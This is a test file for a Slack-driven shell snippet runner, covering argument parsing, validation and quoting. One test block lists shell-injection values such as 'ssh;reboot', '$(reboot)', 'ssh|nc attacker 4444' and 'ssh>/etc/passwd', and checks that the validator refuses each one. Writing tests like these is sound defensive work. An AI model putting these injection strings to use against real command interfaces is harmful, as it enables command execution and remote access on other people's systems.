// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell ${…} and ${{placeholder}} in run lines are literal text under test.
import {
  checkValue,
  MAX_PARAM_VALUE_CHARS,
  type ParamProblem,
  parseRunCommand,
  placeholderPlacementProblems,
  renderCommand,
  resolveParams,
  type Snippet,
  shellQuote,
  snippetsFor,
} from '../../../src/domain/snippet';

const SERVICE = '^[a-z0-9@._][a-z0-9@._-]{0,63}$';
const LINES = '^[0-9]{1,4}$';

const logs: Snippet = {
  name: 'logs',
  description: 'Recent log lines of a systemd unit',
  run: 'journalctl -u {{service}} -n {{lines}} --no-pager',
  targets: ['prod-raspi'],
  params: { service: { pattern: SERVICE }, lines: { pattern: LINES, default: '100' } },
  approval: false,
};

const disk: Snippet = {
  name: 'disk',
  description: 'Disk usage',
  run: 'df -h /',
  targets: ['prod-raspi', 'staging-web'],
  params: {},
  approval: false,
};

describe('parseRunCommand', () => {
  it.each([
    ['', { kind: 'help' }],
    ['   ', { kind: 'help' }],
    ['help', { kind: 'help' }],
    ['HELP', { kind: 'help' }],
    ['prod-raspi', { kind: 'help', target: 'prod-raspi' }],
    ['prod-raspi help', { kind: 'help', target: 'prod-raspi' }],
    ['prod-raspi disk', { kind: 'run', target: 'prod-raspi', snippet: 'disk', args: '' }],
    [
      '  prod-raspi\tlogs  service=ssh lines=5 ',
      { kind: 'run', target: 'prod-raspi', snippet: 'logs', args: 'service=ssh lines=5' },
    ],
    // Slack escapes &, < and > in slash command text; the value is checked as it was typed.
    [
      'prod-raspi logs service=a&amp;&amp;b&lt;c&gt;&amp;lt;',
      { kind: 'run', target: 'prod-raspi', snippet: 'logs', args: 'service=a&&b<c>&lt;' },
    ],
  ])('reads %j', (text, expected) => {
    expect(parseRunCommand(text)).toEqual(expected);
  });
});

describe('resolveParams', () => {
  it('fills defaults and returns every declared value', () => {
    expect(resolveParams(logs, 'service=ssh')).toEqual({ ok: true, value: { service: 'ssh', lines: '100' } });
    expect(resolveParams(logs, 'lines=5 service=cron.service')).toEqual({
      ok: true,
      value: { service: 'cron.service', lines: '5' },
    });
    expect(resolveParams(disk, '')).toEqual({ ok: true, value: {} });
  });

  it('keeps a value containing = whole', () => {
    const echo: Snippet = { ...logs, run: 'echo {{kv}}', params: { kv: { pattern: '^[a-z=]+$' } } };
    expect(resolveParams(echo, 'kv=a=b')).toEqual({ ok: true, value: { kv: 'a=b' } });
  });

  it.each<[string, string, ParamProblem]>([
    ['stray word before any parameter', 'ssh', { reason: 'not-key-value', text: 'ssh' }],
    [
      'unknown parameter',
      'service=ssh unit=x',
      { reason: 'unknown-param', name: 'unit', known: ['service', 'lines'] },
    ],
    [
      'look-alike parameter name',
      'ѕervice=ssh',
      { reason: 'unknown-param', name: 'ѕervice', known: ['service', 'lines'] },
    ],
    ['repeated parameter', 'service=ssh service=cron', { reason: 'repeated-param', name: 'service' }],
    [
      'missing parameter without default',
      'lines=5',
      { reason: 'missing-param', name: 'service', pattern: SERVICE },
    ],
    ['empty value', 'service=', { reason: 'no-match', name: 'service', pattern: SERVICE, value: '' }],
  ])('refuses a %s', (_name, args, problem) => {
    expect(resolveParams(logs, args)).toEqual({ ok: false, error: problem });
  });

  it('refuses any parameter for a snippet that takes none', () => {
    expect(resolveParams(disk, 'path=/')).toEqual({
      ok: false,
      error: { reason: 'unknown-param', name: 'path', known: [] },
    });
  });
});

/**
 * Every injection form from issue 4, typed as the value of `service` (pattern SERVICE). Each is refused
 * before anything is sent, and the refusal names the parameter and its pattern.
 */
describe('injection attempts are refused, naming the parameter and the pattern', () => {
  const cases: [string, string, ParamProblem['reason']][] = [
    ['; a second command', 'ssh;reboot', 'no-match'],
    ['&& a second command', 'ssh&&reboot', 'no-match'],
    ['&& with spaces (one value until the next name=)', 'ssh && reboot', 'no-match'],
    ['| a pipe', 'ssh|nc attacker 4444', 'no-match'],
    ['|| alternative', 'ssh||reboot', 'no-match'],
    ['$() command substitution', '$(reboot)', 'no-match'],
    ['${} parameter expansion', '${IFS}reboot', 'no-match'],
    ['backticks', '`reboot`', 'no-match'],
    ['> redirection', 'ssh>/etc/passwd', 'no-match'],
    ['newline', 'ssh\nreboot', 'forbidden-character'],
    ['carriage return', 'ssh\rreboot', 'forbidden-character'],
    ['NUL', 'ssh\u0000reboot', 'forbidden-character'],
    ['ESC (terminal control)', 'ssh\u001b[2J', 'forbidden-character'],
    ['single quote', "ssh'reboot", 'no-match'],
    ['double quote', 'ssh"reboot', 'no-match'],
    ['typographic quotes', '‘ssh’', 'no-match'],
    ['fullwidth semicolon look-alike', 'ssh；reboot', 'no-match'],
    ['fullwidth letters', 'ｓｓｈ', 'no-match'],
    ['Cyrillic look-alike letters', 'ѕѕһ', 'no-match'],
    ['fullwidth dollar and parentheses', '＄（reboot）', 'no-match'],
    ['zero-width space', 'ss\u200bh', 'forbidden-character'],
    ['right-to-left override', 'ssh\u202e', 'forbidden-character'],
    ['Unicode line separator', 'ssh\u2028reboot', 'forbidden-character'],
    ['lone surrogate', 'ssh\ud800', 'forbidden-character'],
    ['very long value', 'a'.repeat(MAX_PARAM_VALUE_CHARS + 1), 'too-long'],
    ['megabyte value', 'a'.repeat(1_000_000), 'too-long'],
  ];

  it.each(cases)('%s', (_name, value, reason) => {
    const result = resolveParams(logs, `service=${value} lines=5`);
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.error).toMatchObject({ reason, name: 'service', pattern: SERVICE });
  });

  it('refuses the same forms typed through Slack, which escapes & < >', () => {
    const parsed = parseRunCommand('prod-raspi logs service=ssh&amp;&amp;reboot');
    if (parsed.kind !== 'run') throw new Error('expected a run');
    expect(resolveParams(logs, parsed.args)).toEqual({
      ok: false,
      error: { reason: 'no-match', name: 'service', pattern: SERVICE, value: 'ssh&&reboot' },
    });
  });

  it('refuses control, invisible and over-long values even when the pattern allows anything', () => {
    const anything = '^[\\s\\S]*$';
    expect(checkValue('v', anything, 'a\nb')).toMatchObject({
      reason: 'forbidden-character',
      codePoint: 0x0a,
    });
    expect(checkValue('v', anything, 'a\u0000')).toMatchObject({
      reason: 'forbidden-character',
      codePoint: 0,
    });
    expect(checkValue('v', anything, '\ufeffa')).toMatchObject({
      reason: 'forbidden-character',
      codePoint: 0xfeff,
    });
    expect(checkValue('v', anything, 'x'.repeat(257))).toMatchObject({
      reason: 'too-long',
      length: 257,
      max: 256,
    });
    expect(checkValue('v', anything, 'x'.repeat(256))).toBeUndefined();
    // A surrogate pair is a character like any other; only a lone half is refused.
    expect(checkValue('v', anything, '😀')).toBeUndefined();
  });

  it('matches the pattern against the whole value even if the pattern were unanchored', () => {
    expect(checkValue('v', '[a-z]+', 'ssh;reboot')).toMatchObject({ reason: 'no-match' });
    expect(checkValue('v', '[a-z]+', 'ssh')).toBeUndefined();
    expect(checkValue('v', '^[a-z]+$|x', 'ssh;x')).toMatchObject({ reason: 'no-match' });
  });

  it('treats a pattern that does not compile as matching nothing', () => {
    expect(checkValue('v', '^[a-z$', 'a')).toMatchObject({ reason: 'no-match' });
  });
});

describe('shellQuote and renderCommand', () => {
  it.each([
    ['', "''"],
    ['ssh', "'ssh'"],
    ["it's", "'it'\\''s'"],
    ["''", "''\\'''\\'''"],
    ['$(reboot) `x` ; && | \\ "', "'$(reboot) `x` ; && | \\ \"'"],
    ['a\nb', "'a\nb'"],
  ])('quotes %j as %s', (value, quoted) => {
    expect(shellQuote(value)).toBe(quoted);
  });

  it('puts every value in place, single-quoted, and leaves the template alone', () => {
    expect(renderCommand(logs.run, { service: 'ssh', lines: '100' })).toBe(
      "journalctl -u 'ssh' -n '100' --no-pager",
    );
    expect(renderCommand('echo --unit={{u}}{{u}}', { u: "a'b" })).toBe("echo --unit='a'\\''b''a'\\''b'");
    expect(renderCommand(disk.run, {})).toBe('df -h /');
  });

  it('refuses to render a placeholder without a value rather than leave it in the command', () => {
    expect(() => renderCommand('echo {{x}}', {})).toThrow('no value for {{x}}');
  });
});

describe('placeholderPlacementProblems', () => {
  it.each([
    'journalctl -u {{service}} -n {{lines}}',
    'echo --unit={{u}}',
    'echo "$HOME" {{u}} \'literal\'',
    'cat <<< {{u}}',
    'echo \\\\{{u}}',
    'df -h /',
    "echo '<<' {{u}}",
    "wall '$'{{msg}}",
    'echo \\${{u}}',
    'echo $(printf %s {{u}}) ${HOME} $((1 + 2)) [ {{u}} = x ]',
    'echo ~/{{u}} --unit={{u}} a=b{{u}} ==x',
    'ls x[0]{{u}}',
    'echo \\\\\n{{u}}',
    "echo '$\\\n' {{u}}",
    // Nesting: a placeholder that is a word of a command inside "$(…)" is a word like any other.
    'echo "$(echo {{u}})" "${HOME}"',
    'echo $(case {{u}} in a) echo x;; esac) {{u}}',
    "echo 'it''s' # don't {{u}}\necho {{u}}",
    "cut -d $'\\t' -f {{u}}",
    "echo 'a\\\n' # b\\\necho {{u}}",
    // Issue 11 point 7: builtins that read a word as a name or as arithmetic, only where they do.
    'printf %s {{u}}',
    'printf -v line %s {{u}}',
    'export UNIT={{u}} && systemctl status "$UNIT"',
    'echo let {{u}}',
    'let n=1; echo {{u}}',
    'test {{u}} = x',
    'a=({{u}} x); echo "${a[@]}"',
    'declare -a a=({{u}})',
  ])('accepts %j', (run) => {
    expect(placeholderPlacementProblems(run)).toEqual([]);
  });

  it.each([
    ['echo "{{u}}"', /inside double quotes/],
    ["echo '{{u}}'", /inside single quotes/],
    ['echo `{{u}}`', /inside backticks/],
    ["echo $'{{u}}'", /inside single quotes/],
    ['echo \\{{u}}', /right after a backslash/],
    ['cat <<EOF\n{{u}}\nEOF', /here-document/],
    ['cat <<-EOF\n\t{{u}}\nEOF', /here-document/],
    // Issue 11 point 7: bash, ksh and zsh read $'…' as ANSI-C quoting, where \' does not end the quote.
    ['wall ${{msg}}', /^puts \{\{msg\}\} right after \$, .*write \{\{msg\}\} without the \$/],
    ['echo x${{u}}y', /right after \$/],
    ['echo ${x:-{{u}}}', /^puts \{\{u\}\} inside \$\{…\}/],
    ['echo ${x:{{u}}}', /inside \$\{…\}/],
    ['echo ${a[{{u}}]}', /inside \$\{…\}/],
    ['echo $(( {{u}} + 1 ))', /^puts \{\{u\}\} inside arithmetic/],
    ['echo $(( ({{u}}) ))', /inside arithmetic/],
    ['echo $[ {{u}} ]', /inside arithmetic/],
    ['(( {{u}} > 3 )) && echo big', /inside arithmetic/],
    ['[[ {{u}} -eq 1 ]] && echo one', /^puts \{\{u\}\} inside \[\[ … \]\]/],
    ['a[{{u}}]=1', /^puts \{\{u\}\} inside an array subscript/],
    ['declare a[{{u}}]=1', /inside an array subscript/],
    ['echo ~{{u}}', /^puts \{\{u\}\} in a ~ prefix/],
    ['x=~{{u}}', /in a ~ prefix/],
    ['echo $(~{{u}})', /in a ~ prefix/],
    ['echo ={{u}}', /^puts \{\{u\}\} in a word that starts with =/],
    // The shell joins a backslash-newline before reading: these are ${{u}} and $(( {{u}} )).
    ['echo $\\\n{{u}}', /right after \$/],
    ['echo $\\\n(( {{u}} ))', /inside arithmetic/],
    ['echo "\\\n{{u}}"', /inside double quotes/],
    // Read with nesting, as the shell does: each of these put the value where its $(…) ran.
    ['echo "$(echo " {{u}} ")"', /^puts \{\{u\}\} inside double quotes/],
    ['echo "`echo " {{u}} "`"', /^puts \{\{u\}\} inside backticks/],
    ['echo "$(case x in a) echo " {{u}} ";; esac)"', /^puts \{\{u\}\} inside double quotes/],
    ["echo hi # it's\n'{{u}}'", /^puts \{\{u\}\} inside single quotes/],
    ["echo $(x)#' {{u}} '", /^puts \{\{u\}\} inside single quotes/],
    ['echo $(( $(echo {{u}}) ))', /^puts \{\{u\}\} inside arithmetic/],
    ['x=1; [[ $(echo {{u}}) -eq 1 ]]', /inside \[\[ … \]\]/],
    ["echo $'it\\'s' {{u}}", /^uses \\' inside \$'…'/],
    // Issue 11 point 7: these builtins read a quoted word as a variable name or as arithmetic, where
    // a subscript's $(…) runs (bash, ksh93, mksh or zsh; each shown to run it).
    ['let n={{u}}+1', /^puts \{\{u\}\} in an argument of let, /],
    ['declare -i n={{u}}', /in an argument of declare/],
    ['typeset {{u}}', /in an argument of typeset/],
    ['read {{u}} <<< x', /in an argument of read/],
    ['unset {{u}}', /in an argument of unset/],
    ['eval echo {{u}}', /in an argument of eval/],
    ['printf -v {{u}} %s x', /in an argument of printf/],
    ['[ -v {{u}} ] && echo set', /in an argument of \[/],
    ['[ {{u}} -gt 0 ] && echo big', /in an argument of \[/],
    ['test 1 -lt {{u}}', /in an argument of test/],
    ['if let {{u}}; then echo y; fi', /in an argument of let/],
    ['x=1 builtin let {{u}}', /in an argument of let/],
    ['echo $(let {{u}})', /in an argument of let/],
    ['declare -ai a=({{u}})', /in an argument of declare/],
    ['f(){ local {{u}}; }; f', /in an argument of local/],
    ['function f { local {{u}}; }; f', /in an argument of local/],
    // A comment's apostrophe does not stop the next line's continuation from being one.
    ["echo # it's\necho $\\\n{{u}}", /right after \$/],
  ])('refuses %j', (run, problem) => {
    const problems = placeholderPlacementProblems(run);
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatch(problem);
  });
});

describe('placeholderPlacementProblems: quotes where shells disagree', () => {
  it.each([
    ['echo "${x:-" {{u}} "}"', /^puts quotes inside \$\{…\}/],
    ["echo ${x:-'}'} {{u}}", /^puts quotes inside \$\{…\}/],
    ['echo $(( ")" )) {{u}}', /^puts quotes inside arithmetic/],
    ["echo ${x:-$'\\'}'} {{u}}", /^puts quotes inside \$\{…\}/],
  ])('refuses %j', (run, problem) => {
    expect(placeholderPlacementProblems(run)).toContainEqual(expect.stringMatching(problem));
  });
});

describe('snippetsFor', () => {
  it('lists the snippets a target allows, in config order', () => {
    const snippets = { disk, logs };
    expect(snippetsFor('prod-raspi', snippets).map((s) => s.name)).toEqual(['disk', 'logs']);
    expect(snippetsFor('staging-web', snippets).map((s) => s.name)).toEqual(['disk']);
    expect(snippetsFor('nowhere', snippets)).toEqual([]);
  });
});
